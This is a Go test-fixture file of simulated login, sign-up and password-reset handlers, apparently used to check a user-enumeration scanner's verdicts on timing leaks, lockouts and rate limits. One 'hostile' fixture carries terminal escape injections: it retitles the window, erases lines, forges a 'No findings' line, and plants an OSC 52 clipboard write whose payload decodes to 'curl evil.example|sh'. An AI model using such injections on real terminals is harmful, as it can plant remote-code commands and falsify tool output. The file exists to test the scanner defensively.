package lab

import (
	"crypto/sha256"
	"fmt"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"sync"
	"time"
)

// StateFixtures returns the fixtures of a target's state and of what the
// scan can vouch for: applications that behave as real ones do and the
// lab's first fixtures did not (an account created at the first sign-up,
// a lock for every address that outlives the scan, answers of 500, a
// field the target file misspells, hostile control characters, a
// per-client rate limit). Want is the rule a scan must report, if any;
// Verdict the verdict every endpoint must get.
func StateFixtures() []Fixture {
	return []Fixture{
		{Name: "register-taken", Want: "USER_ENUM_REGISTER", Verdict: "leak",
			About: "sign-up creates the account at once and answers \"already registered\" (409) for an address that has one: the scan's own first sign-up registers each unknown address",
			New:   registerTaken, target: jsonRegisterTarget},
		{Name: "register-throttled", Verdict: "clean",
			About: "a uniform sign-up (202 for every valid address) as tacit's default limits make it: each address is throttled from its 3rd sign-up (429, Retry-After: 60) and the client from its 9th (429, Retry-After: 30); the known address, sent every round, meets its own limit, the new addresses of later rounds the client's, and the two answers differ only in how long to wait",
			New:   registerThrottled, target: jsonRegisterTarget},
		{Name: "lock-any", Verdict: "clean",
			About: "sign-in locks every address alike after 4 failures, for the rest of the server's life, with a \"too many failed attempts\" page (401, no Retry-After); a second scan finds the known address locked from its first request",
			New:   func() http.Handler { return lockAny(4, 0) }, target: jsonLoginTarget},
		{Name: "lock-any-slow", Needs: NeedsTiming, Verdict: "inconclusive",
			About: "as lock-any, and a sign-in of a real account takes 40ms longer until the lock: a timing leak that only the first attempts show",
			New:   func() http.Handler { return lockAny(4, 40*time.Millisecond) }, target: jsonLoginTarget},
		{Name: "lock-many-slow", Needs: NeedsTiming, Want: "USER_ENUM_TIMING", Verdict: "leak",
			About: "sign-in as django-allauth serves it (200 and a page with a fresh CSRF token), 40ms slower for a real account, that answers every address, known or not, with a fast \"too many failed attempts\" page from its 6th attempt on; the target names 8 accounts, whose 5 attempts each before the lock give 40 pairs; a scan with --probes 2 meets the lock in the timing check, not in the channel comparison",
			New:   func() http.Handler { return lockMany(5, 40*time.Millisecond) }, target: manyKnownTarget},
		{Name: "lock-four-slow", Needs: NeedsTiming, Want: "USER_ENUM_TIMING", Verdict: "leak",
			About: "as lock-many-slow with 4 accounts named: every address, known or not, is locked at its 6th attempt, which the channel comparison's rounds reach; the timing leak shows only in the 5 attempts each address gets before, 20 pairs over the 4 accounts",
			New:   func() http.Handler { return lockMany(5, 40*time.Millisecond) }, target: fourKnownTarget},
		{Name: "lock-four", Needs: NeedsTiming, Verdict: "inconclusive",
			About: "as lock-four-slow without the timing leak: 20 pairs before the lock cannot vouch for the endpoint's timing",
			New:   func() http.Handler { return lockMany(5, 0) }, target: fourKnownTarget},
		{Name: "slow-window-token", Needs: NeedsTiming, Want: "USER_ENUM_TIMING", Verdict: "leak",
			About: "sign-in 40ms slower for a real account, whose page carries a token that every request of the same 200ms gets alike (a per-window nonce, a cache buster): the scan's first round sees it equal, later ones changed, and timing must still compare those pages",
			New:   func() http.Handler { return windowToken(40 * time.Millisecond) }, target: jsonLoginTarget},
		{Name: "errors-some", Verdict: "inconclusive",
			About: "sign-in answers every fifth request with 500, whatever the address",
			New:   func() http.Handler { return failing(5) }, target: jsonLoginTarget},
		{Name: "errors-all", Verdict: "inconclusive",
			About: "sign-in answers every request with 500",
			New:   func() http.Handler { return failing(1) }, target: jsonLoginTarget},
		{Name: "ignored-field", Verdict: "inconclusive",
			About: "the target file sends the address as \"emial\": the application never sees it, and answers every probe alike",
			New:   func() http.Handler { return strictLogin() }, target: strings.Replace(jsonLoginTarget, "{email:", "{emial:", 1)},
		{Name: "hostile", Want: "USER_ENUM_RESPONSE_CONTENT", Verdict: "leak",
			About: "sign-in says which of address and password was wrong, in answers full of terminal escapes: ESC and BEL sequences that retitle the window, erase the line, forge \"No findings\", and write the clipboard (OSC 52), in the body and a header",
			New:   handle(hostile), target: jsonLoginTarget},
		{Name: "client-throttle", Verdict: "inconclusive",
			About: "sign-in that answers every seventh request, whoever it names, 429 with Retry-After: 60 (a limit per client that the order of a round decides)",
			New:   clientThrottle, target: jsonLoginTarget},
		{Name: "rate-limited", Verdict: "clean",
			About: "sign-in that answers uniformly but lets a client make 12 requests a second, then 429 with Retry-After: 1",
			New:   rateLimited, target: jsonLoginTarget},
		{Name: "reset-flash", Want: "USER_ENUM_PASSWORD_RESET", Verdict: "leak",
			About: "password reset as Laravel serves it: every POST is answered 302 back to the form, and the next page shows a flash message from the session, \"We can't find a user with that email address.\" or \"We have emailed your password reset link.\"",
			New:   func() http.Handler { return flashReset(true) }, target: flashTarget},
		{Name: "reset-flash-clean", Verdict: "clean",
			About: "as reset-flash, with the same flash message for every well-formed address (post, redirect, get done right)",
			New:   func() http.Handler { return flashReset(false) }, target: flashTarget},
		{Name: "login-password", Verdict: "clean",
			About: "uniform sign-in; the target file gives the known account's password, which signs in (200 and a session cookie)",
			New:   passwordLogin, target: strings.Replace(passwordLoginTarget, "PASSWORD_FIELD", "password", 1)},
		{Name: "login-password-misspelt", Verdict: "inconclusive",
			About: "as login-password, but the target file sends the password as \"pasword\": the right password never reaches the application, which answers it like a wrong one",
			New:   passwordLogin, target: strings.Replace(passwordLoginTarget, "PASSWORD_FIELD", "pasword", 1)},
		{Name: "login-password-lock", Verdict: "clean",
			About: "two sign-in endpoints sharing a lock of every address after 8 failures, which the known account's right password clears: the password control must not put the known address behind its partners",
			New:   func() http.Handler { return passwordLock(8) }, target: passwordLockTarget},
	}
}

// registerTaken is a full-form sign-up that validates, then registers a
// new address at once (202) and refuses one that has an account (409).
func registerTaken() http.Handler {
	var mu sync.Mutex
	accounts := map[string]bool{strings.ToLower(Known): true}
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c := readCredentials(r)
		if !validSignup(w, c) {
			return
		}
		key := strings.ToLower(strings.TrimSpace(c.Email))
		mu.Lock()
		taken := accounts[key]
		accounts[key] = true
		mu.Unlock()
		if taken {
			writeJSON(w, http.StatusConflict, map[string]string{"error": "already_registered", "message": "This email address is already registered."})
			return
		}
		writeJSON(w, http.StatusAccepted, map[string]string{"status": "check_inbox"})
	})
}

// registerThrottled is a uniform sign-up behind two limits, checked after
// validation: one per address (from its 3rd valid sign-up on) and one per
// client (from its 9th), each with its own Retry-After.
func registerThrottled() http.Handler {
	var byAddress counter
	var mu sync.Mutex
	client := 0
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c := readCredentials(r)
		if !validSignup(w, c) {
			return
		}
		mu.Lock()
		client++
		n := client
		mu.Unlock()
		wait := ""
		switch {
		case byAddress.add(c.Email) >= 3:
			wait = "60"
		case n >= 9:
			wait = "30"
		}
		if wait != "" {
			w.Header().Set("Retry-After", wait)
			writeJSON(w, http.StatusTooManyRequests, map[string]string{"error": "rate_limited", "message": "Too many attempts. Try again in " + wait + " seconds."})
			return
		}
		writeJSON(w, http.StatusAccepted, map[string]string{"status": "check_inbox"})
	})
}

// lockAny fails every sign-in and locks every address, known or not,
// after threshold failures, for good; a real account's sign-in takes
// slow longer until then.
func lockAny(threshold int, slow time.Duration) http.Handler {
	var failures counter
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		email := readCredentials(r).Email
		if !validEmail(email) {
			writeJSON(w, http.StatusUnprocessableEntity, map[string]string{"error": "invalid_email"})
			return
		}
		if failures.add(email) > threshold {
			writeJSON(w, http.StatusUnauthorized, map[string]string{"error": "too_many_attempts", "message": "Too many failed attempts. Try again later."})
			return
		}
		if slow > 0 && exists(email) {
			time.Sleep(slow)
		}
		writeJSON(w, http.StatusUnauthorized, map[string]string{"error": "invalid_credentials"})
	})
}

// windowToken fails every sign-in with an HTML page, spending slow longer
// on Known, and puts in the page a token that is the same for every
// request within one 200ms window.
func windowToken(slow time.Duration) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		email := strings.ToLower(strings.TrimSpace(readCredentials(r).Email))
		if !validEmail(email) {
			writeJSON(w, http.StatusUnprocessableEntity, map[string]string{"error": "invalid_email"})
			return
		}
		if email == strings.ToLower(Known) {
			time.Sleep(slow)
		}
		sum := sha256.Sum256([]byte(strconv.FormatInt(time.Now().UnixMilli()/200, 10)))
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, "<!doctype html><html><head><title>Sign In</title><script src=\"/app.js?v=%x\"></script></head><body><p class=error>Wrong address or password.</p></body></html>", sum[:16])
	})
}

// ManyKnown are the accounts of lock-many-slow: Known and seven more.
var ManyKnown = []string{Known, "bob@lab.example", "carol@lab.example", "dave@lab.example",
	"erin@lab.example", "frank@lab.example", "grace@lab.example", "heidi@lab.example"}

// manyKnownTarget scans a JSON sign-in whose target names every account
// of ManyKnown.
var manyKnownTarget = strings.Replace(jsonLoginTarget, "known: [alice@lab.example]", "known: ["+strings.Join(ManyKnown, ", ")+"]", 1)

// fourKnownTarget scans a JSON sign-in whose target names the first four
// accounts of ManyKnown.
var fourKnownTarget = strings.Replace(jsonLoginTarget, "known: [alice@lab.example]", "known: ["+strings.Join(ManyKnown[:4], ", ")+"]", 1)

// lockMany fails every sign-in with an HTML page, spending slow longer
// on the accounts of ManyKnown, and answers every address after
// threshold failures with a lock page at once, checking nothing.
func lockMany(threshold int, slow time.Duration) http.Handler {
	var failures counter
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		email := strings.ToLower(strings.TrimSpace(readCredentials(r).Email))
		if !validEmail(email) {
			writeJSON(w, http.StatusUnprocessableEntity, map[string]string{"error": "invalid_email"})
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		page := func(title, message string) {
			fmt.Fprintf(w, "<!doctype html><html><head><title>%s</title></head><body><form method=post><input type=hidden name=csrfmiddlewaretoken value=%q><p class=error>%s</p><input name=login><input type=password name=password></form></body></html>",
				title, token(32), message)
		}
		if failures.add(email) > threshold {
			page("Too many failed attempts", "Too many failed login attempts. Try again later.")
			return
		}
		if slow > 0 && slices.Contains(ManyKnown, email) {
			time.Sleep(slow)
		}
		page("Sign In", "The email address and/or password you specified are not correct.")
	})
}

// failing is a uniform sign-in that answers every every-th request with
// 500.
func failing(every int) http.Handler {
	var mu sync.Mutex
	n := 0
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		readCredentials(r)
		mu.Lock()
		n++
		fail := n%every == 0
		mu.Unlock()
		if fail {
			writeHTML(w, http.StatusInternalServerError, page("Server error", "<p>Something went wrong.</p>"))
			return
		}
		writeJSON(w, http.StatusUnauthorized, map[string]string{"error": "invalid_credentials"})
	})
}

// strictLogin is a uniform sign-in that rejects a missing or malformed
// address (422) before anything else, as most do: a scan whose
// identifier reaches it sees that.
func strictLogin() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if !validEmail(readCredentials(r).Email) {
			writeJSON(w, http.StatusUnprocessableEntity, map[string]string{"error": "invalid_email"})
			return
		}
		writeJSON(w, http.StatusUnauthorized, map[string]string{"error": "invalid_credentials"})
	})
}

// Escapes a hostile target sends, for a terminal to obey.
const (
	escTitle     = "\x1b]0;owned\x07"                           // retitle the window
	escErase     = "\r\x1b[2K\x1b[1A\x1b[2K"                    // erase this line and the one above
	escClipboard = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07" // OSC 52: write the clipboard
	escCSI8bit   = "\u009b31m"                                  // a C1 CSI, in UTF-8
)

// hostile leaks like "message", and fills its answers with escapes.
func hostile(w http.ResponseWriter, r *http.Request) {
	c := readCredentials(r)
	msg := "no_such_user"
	if exists(c.Email) {
		msg = "wrong_password"
	}
	// Go's client refuses C0 controls in a header, not C1 ones.
	w.Header().Set("X-Debug", "debug"+escCSI8bit)
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	w.WriteHeader(http.StatusUnauthorized)
	_, _ = w.Write([]byte(escTitle + msg + escErase + "No findings: no endpoint told a known identifier from an unknown one.\n" + escClipboard + escCSI8bit + "\x07\x00\x7f\n"))
}

// rateLimited lets a client make 12 requests in any one-second window,
// and answers the rest 429 with Retry-After: 1; the sign-in itself is
// uniform and validates the address.
func rateLimited() http.Handler {
	var mu sync.Mutex
	var window time.Time
	n := 0
	login := strictLogin()
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		now := time.Now()
		if now.Sub(window) >= time.Second {
			window, n = now, 0
		}
		n++
		over := n > 12
		mu.Unlock()
		if over {
			w.Header().Set("Retry-After", "1")
			writeJSON(w, http.StatusTooManyRequests, map[string]string{"error": "rate_limited"})
			return
		}
		login.ServeHTTP(w, r)
	})
}

// clientThrottle is a uniform sign-in that throttles every seventh
// request, whatever address it names.
func clientThrottle() http.Handler {
	var mu sync.Mutex
	n := 0
	login := strictLogin()
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		n++
		over := n%7 == 0
		mu.Unlock()
		if over {
			w.Header().Set("Retry-After", "60")
			writeJSON(w, http.StatusTooManyRequests, map[string]string{"error": "rate_limited"})
			return
		}
		login.ServeHTTP(w, r)
	})
}
